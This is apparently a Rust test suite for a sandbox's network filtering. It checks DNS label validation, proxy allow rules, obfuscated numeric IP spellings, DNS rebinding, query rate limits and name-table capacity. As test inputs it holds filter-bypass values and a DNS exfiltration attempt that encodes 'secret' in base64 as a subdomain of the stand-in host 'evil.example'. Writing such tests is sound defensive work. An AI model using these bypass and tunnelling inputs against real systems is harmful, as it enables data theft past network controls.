//! Names: what one is, what it stands for, and who hears of it.

use std::io::{BufRead, BufReader};
use std::net::Ipv4Addr;
use std::os::unix::net::UnixStream;
use std::time::Instant;

use sbx_net::{KnownName, layout, limits};

use super::support::bed::{Bed, python};
use super::support::{self, allow, query, start_kept, start_with, udp_frame};
use super::{PAGE, allowing, reaches, say, stopped};

const A: u16 = 1;
const TXT: u16 = 16;

/// Whether a name with this label has an address.
fn has_address(label: &[u8]) -> bool {
    let mut guest = start_with(&[allow("**")]);
    let mut question = query("x.example", A);
    question.splice(12..14, [&[label.len() as u8], label].concat());
    let answer = guest.ask(&question);
    answer[3] & 15 == 0 && answer[6..8] == [0, 1]
}

#[test]
fn a_name_with_a_nul_or_a_dot_in_a_label_has_no_address() {
    for label in [&b"www\0evil"[..], b"www.evil", b"www evil", b"www\xc3\xa9"] {
        stopped("a label", has_address(label));
    }
}

#[test]
fn a_name_of_letters_digits_and_hyphens_has_an_address() {
    assert!(has_address(b"www-evil_7"));
}

/// What a server says that our proxy is asked for by this name.
fn by_proxy(bed: &Bed, host: &str) -> String {
    let asked = format!(
        "CONNECT {host}:80 HTTP/1.1\r\n\r\nGET / HTTP/1.1\r\nHost: {host}\r\nConnection: \
         close\r\n\r\n"
    );
    say(bed, ("tcp", "198.19.255.1", "3128"), asked.as_bytes())
}

#[test]
fn an_address_in_another_spelling_is_no_name() {
    let Some(bed) = allowing("numeric", &["**"], &[], &[]) else {
        return;
    };
    for host in ["3221226064", "0xc0000250", "0300.0.2.80", "192.0.592"] {
        stopped(host, by_proxy(&bed, host).ends_with(PAGE));
    }
}

#[test]
fn what_a_rule_names_is_reached_by_proxy() {
    let Some(bed) = allowing("byproxy", &["www.example"], &[], &[]) else {
        return;
    };
    assert!(by_proxy(&bed, "www.example").ends_with(PAGE));
}

#[test]
fn what_no_rule_names_is_not_reached_by_proxy_either() {
    let Some(bed) = allowing("noproxy", &["www.example"], &[], &[]) else {
        return;
    };
    stopped("a proxy", by_proxy(&bed, "other.example").ends_with(PAGE));
}

/// What comes back from a server that says what it hears, at a name of which
/// the allowed one has the address too.
fn echo_at(test: &str, name: &str) -> Option<String> {
    let bed = allowing(test, &["www.example:7000"], &["echo,192.0.2.80,7000"], &[])?;
    assert_eq!(
        say(&bed, ("tcp", "www.example", "7000"), b"hello\n"),
        "hello\n"
    );
    Some(say(&bed, ("tcp", name, "7000"), b"hello\n"))
}

#[test]
fn the_address_of_an_allowed_name_is_no_leave_for_another() {
    let Some(said) = echo_at("onename", "other.example") else {
        return;
    };
    stopped("another name", said == "hello\n");
}

#[test]
fn the_address_of_an_allowed_name_stays_its_own() {
    let Some(said) = echo_at("ownname", "WWW.example") else {
        return;
    };
    assert_eq!(said, "hello\n");
}

/// What an echo says at a name that has private addresses, on every port.
fn echo_behind(test: &str, name: &str) -> Option<String> {
    let bed = allowing(test, &["**"], &["echo,0.0.0.0,7000"], &[])?;
    Some(say(&bed, ("tcp", name, "7000"), b"hello\n"))
}

#[test]
fn a_name_that_resolves_into_the_private_network_reaches_nothing() {
    let Some(said) = echo_behind("rebound", "private.example") else {
        return;
    };
    stopped("a name", said == "hello\n");
}

#[test]
fn a_name_that_resolves_there_too_is_reached_where_it_is_public() {
    let Some(said) = echo_behind("mixed", "mixed.example") else {
        return;
    };
    assert_eq!(said, "hello\n");
}

#[test]
fn a_name_is_not_reached_where_it_was() {
    let Some(bed) = allowing("moved", &["**"], &[], &[]) else {
        return;
    };
    assert!(reaches(&bed, "http://www.example/"));
    bed.file("host", "hosts", "10.1.2.3 www.example\n");
    let limit = Instant::now() + 2 * limits::RESOLVED_FOR;
    while reaches(&bed, "http://www.example/") {
        stopped("an old address", Instant::now() > limit);
    }
}

#[test]
fn a_name_that_has_an_address_is_reached_there() {
    let Some(bed) = allowing("stayed", &["**"], &[], &[]) else {
        return;
    };
    for _ in 0..2 {
        assert!(reaches(&bed, "http://www.example/"));
    }
}

/// A stand-in for the host's name server that says what it is asked, and
/// knows nothing.
const NAME_SERVER: &str = r"
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(('127.0.0.1', 53))
print('up', flush=True)
while True:
    query, client = s.recvfrom(4096)
    labels, at = [], 12
    while query[at]:
        labels.append(query[at + 1:at + 1 + query[at]].decode())
        at += 1 + query[at]
    print('.'.join(labels).lower(), flush=True)
    s.sendto(query[:2] + b'\x81\x83' + query[4:6] + bytes(6) + query[12:at + 5], client)
";

/// A bed where `go.example` is allowed, and what its name server hears.
fn listened(test: &str) -> Option<(Bed, BufReader<UnixStream>)> {
    let mut bed = allowing(test, &["go.example"], &[], &[])?;
    let python = python().unwrap();
    let heard = bed.server("host", &[python.to_str().unwrap(), "-c", NAME_SERVER]);
    Some((bed, heard))
}

fn ask_for_texts(bed: &Bed, name: &str) {
    let message: String = query(name, TXT)
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    let program = "
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(20)
s.sendto(bytes.fromhex(sys.argv[1]), ('198.19.255.1', 53))
s.recv(65535)
";
    let python = python().unwrap();
    let output = bed.run(&[python.to_str().unwrap(), "-c", program, &message]);
    assert!(output.status.success(), "{output:?}");
}

fn next(heard: &mut BufReader<UnixStream>) -> String {
    let mut line = String::new();
    heard.read_line(&mut line).unwrap();
    line.trim_end().to_owned()
}

#[test]
fn nobody_hears_of_a_name_that_is_denied() {
    let Some((bed, mut heard)) = listened("unheard") else {
        return;
    };
    let _refused = bed.get("http://c2VjcmV0.evil.example/");
    let _unknown = bed.get("http://go.example/");
    stopped("a name", next(&mut heard) != "go.example");
}

#[test]
fn no_record_of_a_name_that_is_denied_is_asked_for() {
    let Some((bed, mut heard)) = listened("norecord") else {
        return;
    };
    ask_for_texts(&bed, "c2VjcmV0.evil.example");
    ask_for_texts(&bed, "go.example");
    stopped("a question", next(&mut heard) != "go.example");
}

#[test]
fn an_allowed_name_is_asked_of_the_hosts_name_server() {
    let Some((bed, mut heard)) = listened("heard") else {
        return;
    };
    let _unknown = bed.get("http://go.example/");
    assert_eq!(next(&mut heard), "go.example");
}

#[test]
fn the_records_of_an_allowed_name_are_asked_for() {
    let Some((bed, mut heard)) = listened("records") else {
        return;
    };
    ask_for_texts(&bed, "go.example");
    assert_eq!(next(&mut heard), "go.example");
}

#[test]
fn a_flood_of_questions_is_refused_beyond_its_rate() {
    let mut guest = start_with(&[]);
    let question = udp_frame(1000, layout::GATEWAY_V4.into(), 53, &query("a.example", A));
    let mut refused = 0;
    for _ in 0..8 * limits::DNS_RATE {
        guest.wire.send(&question);
        guest.wire.read();
        refused += guest
            .wire
            .frames
            .drain(..)
            .filter(|frame| frame.get(45) == Some(&0x85))
            .count();
    }
    stopped("all of them", refused == 0);
}

#[test]
fn a_few_questions_are_all_answered() {
    let mut guest = start_with(&[]);
    for number in 0..20 {
        support::address_in(&guest.ask(&query(&format!("n{number}.example"), A)));
    }
}

/// Whether a name has an address in a sandbox that knows as many as one may.
fn known_beside_all(name: &str) -> bool {
    let (mut guest, mut kept) = start_kept(&[]);
    kept.names = (0..limits::NAMES)
        .map(|number| KnownName {
            addr: Ipv4Addr::from_bits(u32::from(Ipv4Addr::new(198, 18, 0, 1)) + number as u32),
            name: format!("n{number}.example").parse().unwrap(),
        })
        .collect();
    guest.followed(&[], &kept);
    let answer = guest.ask(&query(name, A));
    answer[3] & 15 == 0
}

#[test]
fn a_name_beyond_those_that_there_is_room_for_has_no_address() {
    stopped("one more", known_beside_all("one-more.example"));
}

#[test]
fn a_name_that_was_known_before_keeps_its_address() {
    assert!(known_beside_all("n7.example"));
}
